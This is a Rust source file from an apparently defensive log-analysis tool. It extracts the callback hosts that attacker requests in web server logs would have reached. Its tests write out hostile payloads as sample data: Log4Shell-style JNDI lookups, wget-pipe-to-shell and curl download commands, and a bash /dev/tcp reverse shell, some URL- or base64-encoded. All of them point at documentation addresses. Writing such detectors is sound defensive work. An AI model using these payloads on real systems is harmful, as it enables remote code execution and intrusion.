//! Whom would a server have called, had it done what was sent?
//!
//! Only what the peer sent is looked at, with its encodings undone: a log line also names the proxy, the server behind
//! it, the peer itself.

use std::net::IpAddr;
use std::sync::OnceLock;

use regex::Regex;
use tripoint_model::address::canonical;

use crate::entry::{Entry, Said};
use crate::views::Views;

/// Addresses and hosts that are kept of one entry; those behind a scheme first.
pub const AIMS_MAX: usize = 8;
/// As much of a message as is looked at, bytes.
const TEXT_BYTES_MAX: usize = 16 << 10;

/// Addresses in canonical form and names in lower case, each once.
pub fn of(entry: &Entry<'_>) -> Vec<String> {
    let text = match &entry.said {
        Said::Request(request) => [
            request.target.as_ref(),
            behind_host(&request.referer),
            without_home(&request.agent).as_str(),
            request.user.as_ref(),
            request.headers.as_ref(),
            request.body.as_ref(),
        ]
        .join("\n"),
        Said::Text(text) => without_upstream(text),
        Said::LogIn(log_in) => log_in.user.to_string(),
    };
    let views = Views::of(tripoint_model::text::truncate(&text, TEXT_BYTES_MAX).0);
    let [behind_scheme, bare] = expressions();
    let mut aims: Vec<String> = Vec::new();
    for expression in [behind_scheme, bare] {
        for view in views.iter() {
            let found = expression.captures_iter(view).filter_map(|found| aim(found.get(1)?.as_str()));
            for aim in found {
                if aims.len() < AIMS_MAX && !aims.contains(&aim) {
                    aims.push(aim);
                }
            }
        }
    }
    aims
}

/// Every browser names the page that led here: what stands behind its host may still be a trap.
fn behind_host(referer: &str) -> &str {
    let rest = referer.strip_prefix("http://").or_else(|| referer.strip_prefix("https://"));
    rest.map_or(referer, |rest| rest.find(['/', '?', '#']).map_or("", |at| &rest[at..]))
}

/// Robots say where they are explained: `(compatible; x/1.0; +https://x.example/bot.html)`.
fn without_home(agent: &str) -> String {
    let mut parts = agent.split("+http");
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |kept, part| match part.strip_prefix("s://").or_else(|| part.strip_prefix("://")) {
        Some(home) => kept + home.find([' ', ')', ';', ',']).map_or("", |at| &home[at..]),
        None => kept + "+http" + part,
    })
}

/// nginx' error log says to whom it passed the request.
fn without_upstream(text: &str) -> String {
    match text.split_once(", upstream: \"") {
        Some((before, rest)) => format!("{before}{}", rest.split_once('"').map_or("", |(_, after)| after)),
        None => text.to_owned(),
    }
}

fn aim(host: &str) -> Option<String> {
    let bare = host.trim_start_matches('[').trim_end_matches(']').trim_matches('.');
    if let Ok(address) = bare.parse::<IpAddr>() {
        return Some(canonical(address).to_string());
    }
    let is_name = bare.contains('.') && bare.bytes().any(|byte| byte.is_ascii_alphabetic());
    is_name.then(|| bare.to_owned())
}

/// Behind `//`, with a log-in or without, and behind `/dev/tcp/`; and addresses that stand alone.
fn expressions() -> &'static [Regex; 2] {
    static MADE: OnceLock<[Regex; 2]> = OnceLock::new();
    MADE.get_or_init(|| {
        [
            r"(?://|/dev/(?:tcp|udp)/)(?:[^\s/@\x22'<>]{0,64}@)?(\[[0-9a-f:.]{2,45}\]|[a-z0-9](?:[a-z0-9.-]{1,250}))",
            r"(?:^|[^0-9.a-z])([0-9]{1,3}(?:\.[0-9]{1,3}){3})(?:[^0-9.]|\.?$)",
        ]
        .map(|text| Regex::new(text).unwrap_or_else(|error| panic!("{error}")))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::log::FORMATS;
    use crate::stamp::Clock;

    fn aims(line: &str) -> Vec<String> {
        let clock = Clock::at("2026-06-15T12:00:00Z".parse().unwrap());
        let entry = FORMATS.iter().find_map(|format| format.read(line, &clock)).unwrap();
        of(&entry)
    }

    fn request(target: &str) -> Vec<String> {
        aims(&format!(
            "198.51.100.7 - - [10/Jun/2026:13:55:36 +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"curl/8.1\""
        ))
    }

    #[test]
    fn where_visitors_come_from_and_robots_live_is_no_aim() {
        let of = |referer: &str, agent: &str| {
            aims(&format!(
                "198.51.100.7 - - [10/Jun/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 404 12 \"{referer}\" \"{agent}\""
            ))
        };
        let robot = "Mozilla/5.0 (compatible; x/1.0; +https://robot.example/bot.html) z";
        assert_eq!(of("https://search.example/?q=a", robot), Vec::<String>::new());
        assert_eq!(of("https://search.example", "a+http b"), Vec::<String>::new());
        let trap = "${jndi:ldap://203.0.113.66/a}";
        for (referer, agent) in [(trap, "x"), ("https://s.example/?", trap), ("-", trap)] {
            assert_eq!(of(referer, agent), ["203.0.113.66"], "{referer} {agent}");
        }
        assert_eq!(of(&format!("https://s.example/?x={trap}"), robot), ["203.0.113.66"]);
    }

    #[test]
    fn what_would_be_called_is_found_in_every_encoding() {
        for target in [
            "/?x=${jndi:ldap://203.0.113.66:1389/a}",
            "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D",
            "/?x=%253Bcurl%2520203.0.113.66%252Fx",
            "/?x=;wget+http://user:pw@203.0.113.66/x|sh",
            "/?x=;bash+-i+>%26+/dev/tcp/203.0.113.66/4444",
            "/?x=[::ffff:203.0.113.66]//[::ffff:203.0.113.66]/",
            // wget http://203.0.113.66/a
            "/?x=d2dldCBodHRwOi8vMjAzLjAuMTEzLjY2L2E=",
        ] {
            assert_eq!(request(target), ["203.0.113.66"], "{target}");
        }
        assert_eq!(request("/?x=${jndi:ldap://C2.Example/a}"), ["c2.example"]);
        assert!(request("/?v=1.2.3.4.5&t=10:20").is_empty());
    }

    #[test]
    fn who_sent_it_and_who_stands_behind_is_not_meant() {
        let line = "2026/06/10 13:55:36 [error] 7#7: *1 open() \"/srv/a\" failed, client: 198.51.100.7, server: x, request: \"GET /?u=http://203.0.113.66/ HTTP/1.1\", upstream: \"http://192.0.2.9:80/\", host: \"h.example\"";
        let found = aims(line);
        assert!(found.contains(&"203.0.113.66".to_owned()) && !found.contains(&"192.0.2.9".to_owned()), "{found:?}");
        let many: String = (0..100).map(|n| format!(";curl+http://203.0.113.{n}/")).collect();
        assert_eq!(request(&format!("/?x={many}")).len(), AIMS_MAX);
    }
}
